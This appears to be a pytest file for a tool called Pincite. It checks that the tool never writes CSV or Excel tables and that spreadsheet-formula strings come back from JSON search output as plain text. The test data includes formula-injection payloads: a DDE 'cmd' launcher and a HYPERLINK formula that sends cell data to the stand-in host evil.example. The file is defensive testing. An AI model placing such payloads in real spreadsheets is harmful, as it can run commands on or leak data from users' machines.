"""Cells that a spreadsheet would run: what Pincite exports is JSON, Markdown, HTML and text, never a table of cells."""

from __future__ import annotations

import ast
import json
from pathlib import Path

import pytest

import pincite
from pincite.serve.cli.main import main

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|x",
    "-2+3+cmd|x",
    "@SUM(1+1)*cmd|x",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example?x="&A1)',
)


def test_row_36_nothing_writes_tables_of_cells():
    for path in Path(pincite.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            assert not called.startswith("csv.") or "writer" not in called.lower(), path
            assert called.rpartition(".")[2] not in ("to_csv", "to_excel"), path


@pytest.mark.parametrize("formula", FORMULAS)
def test_row_36_json_holds_them_as_text_and_nothing_else(library, capsys, formula):
    library.add_text("note:1", f"{formula} the weir", title=formula, metadata={"cell": formula})
    library.close()
    assert main(["--library", str(library.path), "--offline", "search", "weir", "--mode", "keyword", "--json"]) == 0
    (hit,) = json.loads(capsys.readouterr().out)["hits"]
    assert hit["text"].strip() in f"{formula} the weir"
